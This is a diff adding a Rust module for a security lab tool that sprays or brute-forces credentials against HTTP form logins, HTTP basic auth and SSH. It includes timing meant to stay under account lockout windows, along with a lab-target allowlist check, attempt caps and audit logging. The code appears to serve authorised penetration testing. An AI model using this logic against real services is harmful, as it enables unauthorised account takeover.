@@ -0,0 +1,349 @@
+//! Credential spraying against lab services
+//!
+//! Tries username/password combinations against HTTP form logins, HTTP
+//! basic auth and SSH on hosts from the lab target allowlist. Attempts are
+//! rate limited, accounts that get locked are skipped, and a run stops when
+//! the target starts refusing the source altogether. Every attempt goes to
+//! the audit log under the "spray" source, whether or not auditing is
+//! enabled for other commands.
+
+pub mod http;
+pub mod ssh;
+
+use serde::{Deserialize, Serialize};
+use std::collections::{HashMap, HashSet};
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::time::{Duration, Instant};
+
+use crate::services::audit;
+use crate::services::payload_verifier;
+use crate::utils::time::now_millis;
+
+/// Upper bound on username x password combinations in one run
+const MAX_COMBINATIONS: usize = 100_000;
+
+/// Granularity of cancellable waits
+const PAUSE_STEP: Duration = Duration::from_millis(100);
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(tag = "protocol", rename_all = "snake_case")]
+pub enum SprayTarget {
+    /// A login form; without `failure_text` or `success_text`, a response
+    /// that differs in status or redirect from a known-bad login is a hit
+    HttpForm {
+        url: String,
+        #[serde(default)]
+        method: Option<String>,
+        username_field: String,
+        password_field: String,
+        /// Other fields sent with every attempt, like a CSRF token
+        #[serde(default)]
+        extra_fields: HashMap<String, String>,
+        #[serde(default)]
+        failure_text: Option<String>,
+        #[serde(default)]
+        success_text: Option<String>,
+    },
+    HttpBasic {
+        url: String,
+    },
+    Ssh {
+        host: String,
+        #[serde(default)]
+        port: Option<u16>,
+    },
+}
+
+impl SprayTarget {
+    fn host_port(&self) -> Result<(String, u16), String> {
+        match self {
+            Self::HttpForm { url, .. } | Self::HttpBasic { url } => {
+                let parsed = reqwest::Url::parse(url).map_err(|e| format!("Invalid target URL: {}", e))?;
+                let host = parsed.host_str().ok_or("Target URL has no host")?.to_string();
+                let port = parsed.port_or_known_default().ok_or("Target URL has no port")?;
+                Ok((host, port))
+            }
+            Self::Ssh { host, port } => Ok((host.clone(), port.unwrap_or(ssh::DEFAULT_PORT))),
+        }
+    }
+
+    /// The target as shown in events and the audit log
+    pub fn describe(&self) -> String {
+        match self {
+            Self::HttpForm { url, .. } => format!("form {}", url),
+            Self::HttpBasic { url } => format!("basic {}", url),
+            Self::Ssh { host, port } => format!("ssh://{}:{}", host, port.unwrap_or(ssh::DEFAULT_PORT)),
+        }
+    }
+}
+
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum SprayMode {
+    /// Each password against every user before the next password, which
+    /// keeps per-account failures low
+    #[default]
+    Spray,
+    /// Every password against one user before the next user
+    BruteForce,
+}
+
+#[derive(Debug, Clone, Deserialize)]
+#[serde(default)]
+pub struct SprayOptions {
+    pub mode: SprayMode,
+    /// Wait between attempts
+    pub delay_ms: u64,
+    /// Extra wait between passwords in spray mode, to stay under lockout
+    /// windows
+    pub round_delay_secs: u64,
+    /// Stop trying a user once a password works
+    pub stop_on_success: bool,
+    /// Consecutive blocked attempts after which the run is aborted
+    pub max_blocked: usize,
+    pub timeout_secs: u64,
+}
+
+impl Default for SprayOptions {
+    fn default() -> Self {
+        Self { mode: SprayMode::Spray, delay_ms: 1000, round_delay_secs: 0, stop_on_success: true, max_blocked: 3, timeout_secs: 10 }
+    }
+}
+
+/// What to attack and with which credentials. Inline lists and wordlist
+/// files are combined.
+#[derive(Debug, Clone, Deserialize)]
+pub struct SprayConfig {
+    pub target: SprayTarget,
+    #[serde(default)]
+    pub usernames: Vec<String>,
+    #[serde(default)]
+    pub username_list: Option<String>,
+    #[serde(default)]
+    pub passwords: Vec<String>,
+    #[serde(default)]
+    pub password_list: Option<String>,
+    #[serde(default)]
+    pub options: SprayOptions,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum AttemptOutcome {
+    Success,
+    Failure,
+    /// The account is locked; it is skipped from here on
+    Locked,
+    /// The target refused or throttled the source itself
+    Blocked,
+    Error,
+}
+
+#[derive(Debug, Clone, Serialize)]
+pub struct SprayAttempt {
+    pub username: String,
+    pub password: String,
+    pub outcome: AttemptOutcome,
+    pub status: Option<u16>,
+    pub detail: Option<String>,
+    pub time_ms: u64,
+    /// Unix timestamp in milliseconds
+    pub timestamp: u64,
+}
+
+#[derive(Debug, Clone, Serialize)]
+#[serde(tag = "type", rename_all = "snake_case")]
+pub enum SprayEvent {
+    Attempt { attempt: SprayAttempt, tried: usize, total: usize },
+    Hit { username: String, password: String },
+    /// Waiting between spray rounds
+    Waiting { seconds: u64 },
+}
+
+#[derive(Debug, Clone, Serialize)]
+pub struct Credential {
+    pub username: String,
+    pub password: String,
+}
+
+#[derive(Debug, Clone, Serialize)]
+pub struct SprayResult {
+    pub target: String,
+    pub attempts: usize,
+    pub hits: Vec<Credential>,
+    pub locked_users: Vec<String>,
+    /// Why the run stopped early, when it did
+    pub aborted: Option<String>,
+}
+
+/// Cancellation flag shared with the command layer
+#[derive(Default)]
+pub struct SprayControl {
+    pub cancelled: AtomicBool,
+}
+
+impl SprayControl {
+    pub fn cancel(&self) {
+        self.cancelled.store(true, Ordering::SeqCst);
+    }
+
+    fn is_cancelled(&self) -> bool {
+        self.cancelled.load(Ordering::SeqCst)
+    }
+}
+
+/// The response to one login attempt
+pub struct Outcome {
+    pub outcome: AttemptOutcome,
+    pub status: Option<u16>,
+    pub detail: Option<String>,
+}
+
+impl Outcome {
+    fn new(outcome: AttemptOutcome, status: Option<u16>, detail: Option<String>) -> Self {
+        Self { outcome, status, detail }
+    }
+}
+
+enum Attempter {
+    Http(http::HttpAttempter),
+    Ssh(ssh::SshAttempter),
+}
+
+impl Attempter {
+    async fn attempt(&mut self, username: &str, password: &str) -> Outcome {
+        match self {
+            Self::Http(http) => http.attempt(username, password).await,
+            Self::Ssh(ssh) => ssh.attempt(username, password).await,
+        }
+    }
+}
+
+/// Inline values plus the lines of `path`, trimmed, without blanks or repeats
+fn load_list(values: &[String], path: Option<&str>, what: &str) -> Result<Vec<String>, String> {
+    let mut all: Vec<String> = values.to_vec();
+    if let Some(path) = path.filter(|p| !p.is_empty()) {
+        let content = std::fs::read(path).map_err(|e| format!("Failed to read {} list: {}", what, e))?;
+        all.extend(String::from_utf8_lossy(&content).lines().map(String::from));
+    }
+    let mut seen = HashSet::new();
+    let list: Vec<String> = all
+        .into_iter()
+        .map(|v| v.trim_end_matches('\r').to_string())
+        .filter(|v| !v.trim().is_empty() && seen.insert(v.clone()))
+        .collect();
+    if list.is_empty() {
+        return Err(format!("No {}s to try", what));
+    }
+    Ok(list)
+}
+
+/// Sleep for `duration`, returning early when the run is cancelled
+async fn pause(duration: Duration, control: &SprayControl) {
+    let until = Instant::now() + duration;
+    while !control.is_cancelled() {
+        let left = until.saturating_duration_since(Instant::now());
+        if left.is_zero() {
+            break;
+        }
+        tokio::time::sleep(left.min(PAUSE_STEP)).await;
+    }
+}
+
+/// Run a spray against an allowlisted target, streaming attempts and hits
+/// through `emit`
+pub async fn run(job_id: &str, config: SprayConfig, control: &SprayControl, emit: impl Fn(SprayEvent)) -> Result<SprayResult, String> {
+    let (host, port) = config.target.host_port()?;
+    if !payload_verifier::is_lab_target(&host, Some(port)) {
+        return Err(format!("{} is not in the lab target allowlist", host));
+    }
+    let usernames = load_list(&config.usernames, config.username_list.as_deref(), "username")?;
+    let passwords = load_list(&config.passwords, config.password_list.as_deref(), "password")?;
+    let total = usernames.len().saturating_mul(passwords.len());
+    if total > MAX_COMBINATIONS {
+        return Err(format!("{} combinations is over the limit of {}", total, MAX_COMBINATIONS));
+    }
+
+    let options = &config.options;
+    let timeout = Duration::from_secs(options.timeout_secs.max(1));
+    let target = config.target.describe();
+    let mut attempter = match &config.target {
+        SprayTarget::Ssh { .. } => Attempter::Ssh(ssh::SshAttempter::new(host, port, timeout)),
+        http_target => Attempter::Http(http::HttpAttempter::new(http_target, timeout).await?),
+    };
+    audit::record_always(
+        "spray",
+        Some(job_id),
+        &format!("start {} ({} users x {} passwords, {:?})", target, usernames.len(), passwords.len(), options.mode),
+        None,
+    );
+
+    // Rounds of (user, password) pairs; in spray mode a round is one password
+    let rounds: Vec<Vec<(&String, &String)>> = match options.mode {
+        SprayMode::Spray => passwords.iter().map(|p| usernames.iter().map(|u| (u, p)).collect()).collect(),
+        SprayMode::BruteForce => usernames.iter().map(|u| passwords.iter().map(|p| (u, p)).collect()).collect(),
+    };
+
+    let mut tried = 0;
+    let mut hits: Vec<Credential> = Vec::new();
+    let mut locked: Vec<String> = Vec::new();
+    let mut blocked_in_a_row = 0;
+    let mut aborted = None;
+    'rounds: for (round, pairs) in rounds.iter().enumerate() {
+        if round > 0 && options.mode == SprayMode::Spray && options.round_delay_secs > 0 {
+            emit(SprayEvent::Waiting { seconds: options.round_delay_secs });
+            pause(Duration::from_secs(options.round_delay_secs), control).await;
+        }
+        for &(username, password) in pairs {
+            if control.is_cancelled() {
+                aborted = Some("Cancelled".to_string());
+                break 'rounds;
+            }
+            let cracked = options.stop_on_success && hits.iter().any(|h| h.username == *username);
+            if cracked || locked.contains(username) {
+                continue;
+            }
+            if tried > 0 {
+                pause(Duration::from_millis(options.delay_ms), control).await;
+            }
+
+            let started = Instant::now();
+            let result = attempter.attempt(username, password).await;
+            tried += 1;
+            let attempt = SprayAttempt {
+                username: username.clone(),
+                password: password.clone(),
+                outcome: result.outcome,
+                status: result.status,
+                detail: result.detail,
+                time_ms: started.elapsed().as_millis() as u64,
+                timestamp: now_millis(),
+            };
+            audit::record_always("spray", Some(job_id), &format!("{} user={} outcome={:?}", target, username, attempt.outcome), None);
+
+            match attempt.outcome {
+                AttemptOutcome::Success => {
+                    hits.push(Credential { username: username.clone(), password: password.clone() });
+                    emit(SprayEvent::Hit { username: username.clone(), password: password.clone() });
+                }
+                AttemptOutcome::Locked => locked.push(username.clone()),
+                _ => {}
+            }
+            blocked_in_a_row = if attempt.outcome == AttemptOutcome::Blocked { blocked_in_a_row + 1 } else { 0 };
+            emit(SprayEvent::Attempt { attempt, tried, total });
+
+            if options.max_blocked > 0 && blocked_in_a_row >= options.max_blocked {
+                aborted = Some(format!("Target blocked {} attempts in a row", blocked_in_a_row));
+                break 'rounds;
+            }
+        }
+    }
+
+    audit::record_always(
+        "spray",
+        Some(job_id),
+        &format!("end {}: {} attempts, {} hits{}", target, tried, hits.len(), aborted.as_ref().map(|a| format!(", stopped: {}", a)).unwrap_or_default()),
+        None,
+    );
+    Ok(SprayResult { target, attempts: tried, hits, locked_users: locked, aborted })
+}